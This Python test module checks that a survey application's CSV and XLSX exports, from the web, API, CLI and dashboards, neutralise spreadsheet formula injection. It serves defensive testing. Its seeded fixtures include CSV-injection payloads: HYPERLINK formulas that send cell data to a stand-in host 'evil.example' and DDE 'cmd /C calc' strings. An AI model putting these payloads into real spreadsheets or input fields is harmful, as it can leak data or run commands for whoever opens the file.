"""No export holds a formula: every CSV and XLSX file, from the web, the API and the CLI.

Open answers, a participant's name and a department's name that start like a formula are
seeded, every export is downloaded and opened with ``csv`` and openpyxl: no cell is a formula
cell, no text cell starts with a formula character unless it is a plain number, the seeded
values come back with one leading quote, and numbers are still numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app.auth.tokens import create_api_token
from app.models import Answer, Campaign
from app.operations.response_import import parse_responses
from app.platform.extensions import db
from tests.factories import (
    add_people,
    department_of,
    grant,
    invite,
    make_campaign,
    make_org,
    make_user,
    submit,
)
from tests.integration.workspace_support import (
    csrf_token,
    fast_password_hashing,
    login,
    make_client,
)

pytestmark = pytest.mark.usefixtures(fast_password_hashing.__name__)

DEPARTMENT = '=HYPERLINK("http://evil.example/?d="&A2,"Dept")'
PARTICIPANT = "=cmd|' /C calc'!A0"
ANSWERS = (
    '=HYPERLINK("http://evil.example/?x="&B3,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
)
#: Saved before control characters were cleaned from answers: still exported safely.
RAW_ANSWER = "\r=1+1"
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


@pytest.fixture
def hostile(app) -> Campaign:
    """Ten responses in a department named like a formula (enough for its free text to be
    exported), open answers like formulas."""
    org = make_org("acme", ("営業部", "開発部"))
    department_of(org, "開発部").name = DEPARTMENT
    db.session.commit()
    campaign = make_campaign(org, threshold=3)
    people = add_people(campaign, 10, department=DEPARTMENT)
    people[0].name = PARTICIPANT
    for person, text in zip(people[:-1], [*ANSWERS, *["ふつうの回答"] * 10], strict=False):
        submit(person, value=4, text=text)
    last = submit(people[-1], value=2, text="placeholder")
    db.session.execute(
        update(Answer)
        .where(Answer.response_id == last.id, Answer.text.is_not(None))
        .values(text=RAW_ANSWER)
    )
    invite(campaign, department=DEPARTMENT, name=PARTICIPANT, email="late@example.jp")
    for person in add_people(campaign, 3, department="営業部"):
        submit(person, value=3)
    db.session.commit()
    return campaign


def _consultant(app, campaign: Campaign):
    user = make_user("consultant@example.jp")
    grant(user, campaign.organization, "consultant")
    client = make_client(app)
    login(client, user.email)
    return client, csrf_token(client, "/account"), user


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> list[list[Any]]:
    workbook = load_workbook(io.BytesIO(data))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            rows.append([cell.value for cell in row])
    return rows


def _assert_safe(rows: Iterable[Iterable[Any]], *, expected: Iterable[str] = ()) -> list[Any]:
    """No cell starts like a formula; each value in ``expected`` is there behind a quote."""
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if isinstance(cell, str) and cell[:1] != "" and cell[0] in "=+-@\t\r":
            assert PLAIN_NUMBER.fullmatch(cell), f"formula-like cell {cell!r}"
    for value in expected:
        # XML (XLSX) reads a carriage return back as a line feed.
        quoted = {"'" + value, "'" + value.replace("\r", "\n")}
        assert quoted & set(cells), f"{value!r} missing or not quoted"
    return cells


def _assert_numbers(rows: list[list[Any]], column: str, *, as_text: bool) -> None:
    """The item column holds scale points: ints in XLSX, digits in CSV."""
    index = rows[0].index(column)
    # The XLSX file's second header row holds the item texts.
    data = rows[1:] if as_text else rows[2:]
    values = [row[index] for row in data if row[index] not in ("", None)]
    assert values
    if as_text:
        assert all(re.fullmatch(r"\d", value) for value in values), values
    else:
        assert all(type(value) is int for value in values), values


def test_workspace_exports_hold_no_formula(app, hostile):
    client, token, _user = _consultant(app, hostile)
    url = f"/workspace/campaigns/{hostile.id}/export"
    item = hostile.questionnaire.items[0].id
    form = {"csrf_token": token, "locale": "en", "with_identities": "y"}
    for fmt in ("csv", "xlsx"):
        response = client.post(url, data={**form, "format": fmt})
        assert response.status_code == 200
        data = response.get_data()
        rows = _csv_rows(data) if fmt == "csv" else _xlsx_rows(data)
        _assert_safe(rows, expected=(DEPARTMENT, PARTICIPANT, *ANSWERS, RAW_ANSWER))
        _assert_numbers(rows, item, as_text=fmt == "csv")


def test_api_responses_csv_holds_no_formula(app, hostile):
    _client, _token, user = _consultant(app, hostile)
    api_token = create_api_token(user, "tests")
    db.session.commit()
    response = make_client(app).get(
        f"/api/v1/campaigns/{hostile.id}/responses.csv",
        headers={"Authorization": f"Bearer {api_token}"},
    )
    assert response.status_code == 200
    rows = _csv_rows(response.get_data())
    _assert_safe(rows, expected=(DEPARTMENT, *ANSWERS, RAW_ANSWER))
    _assert_numbers(rows, hostile.questionnaire.items[0].id, as_text=True)


def test_cli_exports_hold_no_formula(runner, hostile, tmp_path: Path):
    item = hostile.questionnaire.items[0].id
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"export.{suffix}"
        result = runner.invoke(
            args=["responses", "export", str(hostile.id), "-o", str(path), "--with-identities"]
        )
        assert result.exit_code == 0, result.output
        data = path.read_bytes()
        rows = _csv_rows(data) if suffix == "csv" else _xlsx_rows(data)
        _assert_safe(rows, expected=(DEPARTMENT, PARTICIPANT, *ANSWERS, RAW_ANSWER))
        _assert_numbers(rows, item, as_text=suffix == "csv")


def test_links_csv_holds_no_formula_on_the_web_and_in_the_cli(app, runner, hostile, tmp_path):
    client, token, _user = _consultant(app, hostile)
    response = client.post(
        f"/workspace/campaigns/{hostile.id}/links.csv", data={"csrf_token": token}
    )
    assert response.status_code == 200
    _assert_safe(_csv_rows(response.get_data()), expected=(DEPARTMENT, PARTICIPANT))
    path = tmp_path / "links.csv"
    result = runner.invoke(args=["participants", "links", str(hostile.id), "-o", str(path)])
    assert result.exit_code == 0, result.output
    _assert_safe(_csv_rows(path.read_bytes()), expected=(DEPARTMENT, PARTICIPANT))


def test_dashboard_csvs_hold_no_formula(app, hostile):
    client, _token, _user = _consultant(app, hostile)
    base = f"/dashboard/campaigns/{hostile.id}"
    department = department_of(hostile.organization, DEPARTMENT).id
    dimension = hostile.questionnaire.dimensions[0].id
    for path in (
        "overview.csv",
        "departments.csv",
        f"departments/{department}.csv",
        "roles.csv",
        f"dimensions/{dimension}.csv",
    ):
        response = client.get(f"{base}/{path}")
        assert response.status_code == 200, path
        assert response.mimetype == "text/csv"
        rows = _csv_rows(response.get_data())
        cells = _assert_safe(rows, expected=(DEPARTMENT,) if path == "departments.csv" else ())
        assert any(PLAIN_NUMBER.fullmatch(c) for c in cells if isinstance(c, str)), path


def test_the_import_reads_the_quoted_export_back(app, hostile):
    client, token, _user = _consultant(app, hostile)
    response = client.post(
        f"/workspace/campaigns/{hostile.id}/export",
        data={"csrf_token": token, "format": "csv", "locale": "ja"},
    )
    preview = parse_responses(hostile, response.get_data())
    assert preview.ok, preview.problems
    open_id = hostile.questionnaire.open_questions[0].id
    texts = {row.answers.get(open_id) for row in preview.rows}
    assert {*ANSWERS[:-1], "=1+1"} <= texts
    assert DEPARTMENT in {row.department.name for row in preview.rows}
